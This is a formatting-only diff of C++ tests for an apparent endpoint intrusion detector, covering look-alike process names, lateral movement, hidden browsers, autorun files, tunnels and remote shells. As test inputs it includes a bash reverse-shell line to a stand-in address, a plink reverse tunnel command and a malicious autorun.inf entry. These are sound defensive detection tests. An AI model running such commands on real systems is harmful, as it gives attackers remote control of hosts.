@@ -25,7 +25,8 @@ TEST(MisplacedProgram, FromDownloadsToABareAddressIsMedium) {
 TEST(MisplacedProgram, InstalledProgramsAndThoseOfAVendorInTheProfileAreQuiet) {
   HostForTests host({"misplaced_program"});
   host.talk(host.process(7, "C:\\Program Files\\App\\app.exe"), "192.0.2.7:8443");
-  host.talk(host.process(8, "C:\\Users\\ann\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"), "52.113.194.132:443");
+  host.talk(host.process(8, "C:\\Users\\ann\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"),
+            "52.113.194.132:443");
   host.talk(host.process(9, "C:\\Users\\ann\\Downloads\\invoice.exe"), "127.0.0.1:8443");
   EXPECT_TRUE(host.finish().empty());
 }
@@ -81,7 +82,8 @@ TEST(QuietProgram, OthersOfThatNameControllersAndVendorsAreQuiet) {
 
 TEST(QuietProgram, DocumentProgramsKnowTheirPeersByName) {
   HostForTests host({"quiet_program"});
-  const auto word = host.process(7, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
+  const auto word =
+      host.process(7, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
   host.lookup("intranet.corp.example", "10.9.9.9");
   host.talk(word, "10.9.9.9:443");
   host.talk(word, "52.109.8.20:443");
@@ -92,7 +94,8 @@ TEST(QuietProgram, DocumentProgramsKnowTheirPeersByName) {
 
 TEST(MisplacedProgram, ANamelessFileAmongWindowsOwn) {
   HostForTests host({"misplaced_program"});
-  auto real = host.process(6, system32("svchost.exe")), fake = host.process(7, system32("hostui.exe"));
+  auto real = host.process(6, system32("svchost.exe")),
+       fake = host.process(7, system32("hostui.exe"));
   real.sha256 = fake.sha256 = "00";
   host.start(fake);
   host.talk(fake, "192.0.2.1:443");
@@ -114,7 +117,10 @@ TEST(KerberosSpeaker, OnlyTheAuthoritySpeaksIt) {
 }
 
 TEST(LookAlike, NamesThatHideTheirEnding) {
-  for (const char* name : {"report.pdf.exe", "\xe2\x80\xae" "cod.scr", "photo          .exe"}) {
+  for (const char* name : {"report.pdf.exe",
+                           "\xe2\x80\xae"
+                           "cod.scr",
+                           "photo          .exe"}) {
     HostForTests host({"look_alike"});
     host.start(host.process(7, "C:\\Users\\ann\\" + std::string(name)));
     EXPECT_GE(host.only_alert("look_alike").severity, Severity::kMedium) << name;
@@ -139,14 +145,19 @@ TEST(ScriptHost, ALongConversationOfAHiddenCommandIsHigh) {
 TEST(ScriptHost, AdministrationToolToItsVendorIsNotMedium) {
   HostForTests host({"script_host"});
   host.lookup("management.azure.com", "20.50.1.1");
-  host.talk(host.process(7, system32("WindowsPowerShell\\v1.0\\powershell.exe"), "C:\\Packages\\gc_worker.exe"), "20.50.1.1:443");
-  for (const auto& alert : host.finish()) EXPECT_LT(alert.severity, Severity::kMedium) << alert.reason;
+  host.talk(host.process(7, system32("WindowsPowerShell\\v1.0\\powershell.exe"),
+                         "C:\\Packages\\gc_worker.exe"),
+            "20.50.1.1:443");
+  for (const auto& alert : host.finish())
+    EXPECT_LT(alert.severity, Severity::kMedium) << alert.reason;
 }
 
 TEST(LookAlike, NearNamesAndRightNamesInWrongPlaces) {
-  const std::string wrong[] = {system32("csrcs.exe"), system32("scvhost.exe"), system32("lsasss.exe"),
-                               "C:\\Users\\ann\\svchost.exe", "C:\\Windows\\explorer1.exe",
-                               "C:\\Windows\\System32\\drivers\\lsass.exe", system32("sv\xd1\x81host.exe")};
+  const std::string wrong[] = {
+      system32("csrcs.exe"),         system32("scvhost.exe"),
+      system32("lsasss.exe"),        "C:\\Users\\ann\\svchost.exe",
+      "C:\\Windows\\explorer1.exe",  "C:\\Windows\\System32\\drivers\\lsass.exe",
+      system32("sv\xd1\x81host.exe")};
   for (const std::string& path : wrong) {
     HostForTests host({"look_alike"});
     host.start(host.process(7, path));
@@ -157,17 +168,19 @@ TEST(LookAlike, NearNamesAndRightNamesInWrongPlaces) {
 TEST(LookAlike, TheRealOnesAndNamesNearByChanceAreQuiet) {
   HostForTests host({"look_alike"});
   uint32_t pid = 10;
-  for (const char* path : {"C:\\Windows\\System32\\csrss.exe", "C:\\Windows\\SysWOW64\\svchost.exe",
-                           "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\taskhostex.exe",
-                           "C:\\Windows\\System32\\dllhst3g.exe", "C:\\Windows\\WinSxS\\amd64_x\\svchost.exe",
-                           "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", "C:\\App\\server.exe",
-                           "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Tools\\service.exe"})
+  for (const char* path :
+       {"C:\\Windows\\System32\\csrss.exe", "C:\\Windows\\SysWOW64\\svchost.exe",
+        "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\taskhostex.exe",
+        "C:\\Windows\\System32\\dllhst3g.exe", "C:\\Windows\\WinSxS\\amd64_x\\svchost.exe",
+        "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", "C:\\App\\server.exe",
+        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Tools\\service.exe"})
     host.start(host.process(++pid, path));
   for (const auto& alert : host.finish()) ADD_FAILURE() << alert.reason;
 }
 
 TEST(LookAlike, LinuxImpostors) {
-  for (const char* path : {"/tmp/sshhd", "/usr/bin/kworker", "/var/tmp/systemd", "/opt/x/systemd-resolvd"}) {
+  for (const char* path :
+       {"/tmp/sshhd", "/usr/bin/kworker", "/var/tmp/systemd", "/opt/x/systemd-resolvd"}) {
     HostForTests host({"look_alike"}, Platform::kLinux);
     host.talk(host.process(7, path), "192.0.2.1:443");
     EXPECT_GE(host.only_alert("look_alike").severity, Severity::kMedium) << path;
@@ -188,7 +201,8 @@ TEST(LookAlike, LinuxImpostors) {
 TEST(LateralMovement, TheKernelAmongStrangersButNotWithItsServers) {
   HostForTests host({"lateral_movement"});
   const auto kernel = host.process(4, "System");
-  for (const char* peer : {"10.9.9.21:445", "10.9.9.22:445", "10.9.9.23:445"}) host.talk(kernel, peer);
+  for (const char* peer : {"10.9.9.21:445", "10.9.9.22:445", "10.9.9.23:445"})
+    host.talk(kernel, peer);
   const auto alerts = host.finish();
   ASSERT_EQ(alerts.size(), 3u);
   EXPECT_EQ(alerts[0].severity, Severity::kLow);
@@ -200,7 +214,8 @@ TEST(LateralMovement, DomainControllersAndServersOfSharesAreQuiet) {
   const auto kernel = host.process(4, "System");
   host.talk(host.process(2, system32("lsass.exe")), "10.9.9.1:88");
   host.lookup("files.corp.example", "10.9.9.2");
-  host.observe(host.process(3, "C:\\Windows\\explorer.exe"), event::ShareConnected{"\\\\FILES\\home", {}});
+  host.observe(host.process(3, "C:\\Windows\\explorer.exe"),
+               event::ShareConnected{"\\\\FILES\\home", {}});
   host.talk(kernel, "10.9.9.1:445");
   host.talk(kernel, "10.9.9.2:445");
   host.talk(kernel, "10.9.9.255:137", event::Transport::kUdp);
@@ -220,8 +235,9 @@ TEST(LateralMovement, FanOutNeedsManyMachines) {
 TEST(HiddenBrowser, ManyWithoutADesktopToOneAddress) {
   HostForTests host({"hidden_browser"});
   for (uint32_t pid = 20; pid < 26; ++pid)
-    host.talk(host.process(pid, "C:\\Program Files\\Internet Explorer\\iexplore.exe", system32("svchost.exe"),
-                           "\"iexplore.exe\" -Embedding"), "198.51.100.4:443");
+    host.talk(host.process(pid, "C:\\Program Files\\Internet Explorer\\iexplore.exe",
+                           system32("svchost.exe"), "\"iexplore.exe\" -Embedding"),
+              "198.51.100.4:443");
   unsigned medium = 0;
   for (const auto& alert : host.finish()) medium += alert.severity >= Severity::kMedium;
   EXPECT_GE(medium, 2u);
@@ -243,10 +259,14 @@ TEST(HiddenBrowser, APersonsBrowserIsQuiet) {
 
 TEST(HiddenBrowser, LinksInMailsAreOpenedByPeople) {
   HostForTests host({"hidden_browser"});
-  host.talk(host.process(20, "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "C:\\Program Files\\Office\\OUTLOOK.EXE"), "198.51.100.4:443");
+  host.talk(host.process(20, "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
+                         "C:\\Program Files\\Office\\OUTLOOK.EXE"),
+            "198.51.100.4:443");
   EXPECT_TRUE(host.finish().empty());
   HostForTests scripted({"hidden_browser"});
-  scripted.talk(scripted.process(20, "C:\\Program Files\\Mozilla Firefox\\firefox.exe", system32("wscript.exe"), "firefox --headless"), "198.51.100.4:443");
+  scripted.talk(scripted.process(20, "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
+                                 system32("wscript.exe"), "firefox --headless"),
+                "198.51.100.4:443");
   EXPECT_GE(scripted.only_alert("hidden_browser").severity, Severity::kMedium);
 }
 
@@ -263,8 +283,14 @@ TEST(DesktopShell, ToTheInternetButNotToItsVendorOrAShare) {
 TEST(AutorunDrive, HiddenTargetAlertsAndACdDoesNot) {
   HostForTests host({"autorun_drive"});
   const auto shell = host.process(3, "C:\\Windows\\explorer.exe");
-  host.observe(shell, event::RemovableFileSeen{"E:\\autorun.inf", "E:", "[autorun]\nopen=RECYCLER\\S-1-5\\winlogon.exe\n", {}});
-  host.observe(shell, event::RemovableFileSeen{"D:\\autorun.inf", "D:", "[autorun]\nopen=setup.exe\nicon=setup.exe,0\nlabel=Office\n", {}});
+  host.observe(shell,
+               event::RemovableFileSeen{
+                   "E:\\autorun.inf", "E:", "[autorun]\nopen=RECYCLER\\S-1-5\\winlogon.exe\n", {}});
+  host.observe(
+      shell, event::RemovableFileSeen{"D:\\autorun.inf",
+                                      "D:",
+                                      "[autorun]\nopen=setup.exe\nicon=setup.exe,0\nlabel=Office\n",
+                                      {}});
   const auto alert = host.only_alert("autorun_drive");
   EXPECT_EQ(alert.file, "E:\\autorun.inf");
   EXPECT_GE(alert.severity, Severity::kMedium);
@@ -273,18 +299,22 @@ TEST(AutorunDrive, HiddenTargetAlertsAndACdDoesNot) {
 
 TEST(AutorunDrive, WhoWritesOneIsTold) {
   HostForTests host({"autorun_drive"});
-  host.observe(host.process(9, "C:\\Users\\ann\\x.exe"), event::FileWritten{"F:\\autorun.inf", {}, {}});
-  host.observe(host.process(9, "C:\\Users\\ann\\x.exe"), event::FileWritten{"F:\\data\\autorun.inf", {}, {}});
+  host.observe(host.process(9, "C:\\Users\\ann\\x.exe"),
+               event::FileWritten{"F:\\autorun.inf", {}, {}});
+  host.observe(host.process(9, "C:\\Users\\ann\\x.exe"),
+               event::FileWritten{"F:\\data\\autorun.inf", {}, {}});
   EXPECT_GE(host.only_alert("autorun_drive").severity, Severity::kMedium);
 }
 
 TEST(Tunnel, ArgumentsAndPivots) {
   HostForTests host({"tunnel"});
-  host.start(host.process(5, "C:\\Tools\\plink.exe", "", "plink.exe -N -R 3389:127.0.0.1:3389 u@192.0.2.1"));
+  host.start(host.process(5, "C:\\Tools\\plink.exe", "",
+                          "plink.exe -N -R 3389:127.0.0.1:3389 u@192.0.2.1"));
   host.talk(host.process(6, system32("inetsrv\\w3wp.exe")), "127.0.0.1:3389");
   host.start(host.process(7, system32("OpenSSH\\ssh.exe"), "", "ssh ann@server.example"));
   host.talk(host.process(8, system32("mstsc.exe")), "127.0.0.1:3389");
-  host.start(host.process(10, system32("OpenSSH\\ssh.exe"), "", "ssh ann@server.example rsync -r a: b"));
+  host.start(
+      host.process(10, system32("OpenSSH\\ssh.exe"), "", "ssh ann@server.example rsync -r a: b"));
   host.start(host.process(9, "C:\\Apps\\codepage.exe", "", "codepage.exe tunnel"));
   std::vector<uint32_t> pids;
   for (const auto& alert : host.finish()) pids.push_back(alert.actor.pid);
@@ -293,17 +323,22 @@ TEST(Tunnel, ArgumentsAndPivots) {
 
 TEST(NewListener, ShellsListenForNobodyGood) {
   HostForTests host({"new_listener"}, Platform::kLinux);
-  host.observe(host.process(5, "/usr/bin/bash"), event::ListenerOpened{event::Transport::kTcp, endpoint_of("0.0.0.0:4444")});
-  host.observe(host.process(6, "/usr/sbin/nginx"), event::ListenerOpened{event::Transport::kTcp, endpoint_of("0.0.0.0:80")});
-  host.observe(host.process(7, "/tmp/x"), event::ListenerOpened{event::Transport::kTcp, endpoint_of("127.0.0.1:9000")});
+  host.observe(host.process(5, "/usr/bin/bash"),
+               event::ListenerOpened{event::Transport::kTcp, endpoint_of("0.0.0.0:4444")});
+  host.observe(host.process(6, "/usr/sbin/nginx"),
+               event::ListenerOpened{event::Transport::kTcp, endpoint_of("0.0.0.0:80")});
+  host.observe(host.process(7, "/tmp/x"),
+               event::ListenerOpened{event::Transport::kTcp, endpoint_of("127.0.0.1:9000")});
   EXPECT_EQ(host.only_alert("new_listener").actor.pid, 5u);
 }
 
 TEST(InjectedTalker, TalksAfterAThreadFromAScriptHost) {
   HostForTests host({"injected_talker"});
-  const auto victim = host.process(9, system32("spoolsv.exe")), other = host.process(10, system32("svchost.exe"));
+  const auto victim = host.process(9, system32("spoolsv.exe")),
+             other = host.process(10, system32("svchost.exe"));
   host.talk(victim, "10.9.9.9:443");
-  host.observe(host.process(8, system32("WindowsPowerShell\\v1.0\\powershell.exe")), event::ThreadInjected{victim});
+  host.observe(host.process(8, system32("WindowsPowerShell\\v1.0\\powershell.exe")),
+               event::ThreadInjected{victim});
   host.observe(host.process(7, system32("csrss.exe")), event::ThreadInjected{other});
   EXPECT_TRUE(host.set().take_new().empty());
   host.talk(victim, "10.9.9.9:443");
@@ -326,10 +361,13 @@ TEST(MiningOrTor, PoolsByArgumentAndName) {
 
 TEST(RemoteShell, SocketAsStreamAndArguments) {
   HostForTests host({"remote_shell"}, Platform::kLinux);
-  host.observe(host.process(5, "/usr/bin/bash", "/usr/sbin/apache2"), event::ProcessStarted{"", true});
-  host.start(host.process(6, "/usr/bin/bash", "", "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"));
+  host.observe(host.process(5, "/usr/bin/bash", "/usr/sbin/apache2"),
+               event::ProcessStarted{"", true});
+  host.start(
+      host.process(6, "/usr/bin/bash", "", "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"));
   host.observe(host.process(7, "/usr/bin/bash", "/usr/sbin/sshd"), event::ProcessStarted{"", true});
-  host.observe(host.process(8, "/usr/bin/bash", "/usr/bin/gnome-terminal"), event::ProcessStarted{"", false});
+  host.observe(host.process(8, "/usr/bin/bash", "/usr/bin/gnome-terminal"),
+               event::ProcessStarted{"", false});
   const auto alerts = host.finish();
   ASSERT_EQ(alerts.size(), 2u);
   for (const auto& alert : alerts) EXPECT_GE(alert.severity, Severity::kHigh);
